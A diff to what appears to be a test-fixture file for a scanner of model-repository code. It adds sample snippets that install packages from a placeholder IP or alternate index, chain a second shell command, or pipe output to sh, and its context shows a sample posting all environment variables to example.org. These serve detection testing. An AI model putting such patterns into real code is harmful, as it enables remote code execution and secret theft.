@@ -98,6 +98,18 @@ LATER: dict[str, str] = {
     "compiled-source": "from torch.utils.cpp_extension import load_inline\nclass A:\n    def __init__(self):\n"
     "        load_inline('x', 'int go() { return system(\"echo hello\"); }')\n",
 }
+#: Commands that look like an ordinary installation and are none.
+INSTALLS: dict[str, str] = {
+    "an-address": "import os\nos.system('pip install https://192.0.2.1/x.whl')\n",
+    "another-index": "import subprocess\nsubprocess.run('pip install torch --index-url https://192.0.2.1/simple', shell=True)\n",
+    "another-index-by-environment": "import os, subprocess\nsubprocess.run(['pip', 'install', 'torch'], "
+                                    "env={**os.environ, 'PIP_INDEX_URL': 'https://192.0.2.1/'})\n",
+    "a-second-command": "import os\nos.system('pip install torch; echo hello')\n",
+    "another-program": "import subprocess\nsubprocess.run(['pip', 'install', 'torch'], executable='/bin/echo')\n",
+    "a-folder": "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', './lib'])\n",
+    "a-computed-name": "import subprocess\nsubprocess.run(['pip', 'install', input()])\n",
+    "a-pipe-to-a-shell": "import subprocess\nsubprocess.run('hostname | sh', shell=True)\n",
+}  # fmt: skip
 #: What is taken from the user and sent, whenever the code runs.
 SECRETS: dict[str, str] = {
     "environment": "import os, requests\nclass A:\n    def forward(self, x): requests.post('https://example.org', json=dict(os.environ))\n",
@@ -130,5 +142,25 @@ QUIET: dict[str, str] = {
     "older-checkpoint": "import torch\ndef convert(path): return torch.load(path, weights_only=False)\n",
     "an-unknown-package": "import nobody_has_heard_of_it\n",
     "compiled-kernel": "from torch.utils.cpp_extension import load\nclass A:\n    def __init__(self): load('x', ['x.cu'])\n",
+    "a-package-of-a-function": "def show():\n    import nobody_has_heard_of_it\n",
+    "a-package-that-may-be-absent": "try:\n    import nobody_has_heard_of_it\nexcept ImportError:\n    pass\n",
+    "a-package-for-type-checkers": "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    from nobody_has_heard_of_it import T\n",
+    "a-package-in-a-branch": "import sys\nif sys.platform:\n    import nobody_has_heard_of_it\n",
+    "its-own-package": "import example_project.modeling_x\nfrom example_project.modeling_x import A\n",
+    "weights-loaded": "import os, torch\ndef model_fn(folder):\n    return torch.jit.load(os.path.join(folder, 'model.pt'))\n",
+    "weights-loaded-in-a-class": "import torch\nclass A:\n    def __init__(self, path): self.x = torch.load(path, map_location='cpu')\n",
+    "fetched-weights": "import torch\nfrom huggingface_hub import hf_hub_download\nclass A:\n    def __init__(self):\n"
+                       "        self.x = torch.load(hf_hub_download('x/y', 'w.pt'), weights_only=False)\n",
+    "its-own-cache": "import os, torch\nclass A:\n    def __init__(self, path):\n        self.x = torch.load(path)\n        os.remove(path)\n",
+    "a-file-that-runs": "import torch\nclass A:\n    def __init__(self, path):\n        self.x = torch.load(path)\n        open('../x.py', 'w').write('')\n",
+    "a-cluster-asked": "import subprocess\ndef main():\n    return subprocess.getoutput('scontrol show hostname $SLURM_NODELIST | head -n1')\n",
+    "a-cluster-asked-more": "import subprocess\ndef main():\n    return subprocess.getoutput('scontrol show hostname $SLURM_NODELIST | sh')\n",
+    "known-packages-installed": "import os, subprocess, sys\nsubprocess.run('pip install flash-attn --no-build-isolation', "
+                                "env={**os.environ, 'FLASH_ATTENTION_SKIP_CUDA_BUILD': 'TRUE'}, shell=True)\n"
+                                "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'torch==2.1.2', '--index-url', "
+                                "'https://download.pytorch.org/whl/cu121'])\nos.system('pip install -q -U gradio')\n",
+    "other-packages-installed": "import subprocess\nsubprocess.run(['pip', 'install', 'nobody-has-heard-of-it'])\n",
+    "weights-fetched-by-a-program": "import subprocess\nclass Predictor:\n    def setup(self):\n"
+                                    "        subprocess.check_call(['pget', '-x', self.url, 'cache'], close_fds=False)\n",
     "relative": "from .configuration_x import Config\nclass A:\n    def __init__(self, c: Config): self.c = c\n",
 }  # fmt: skip
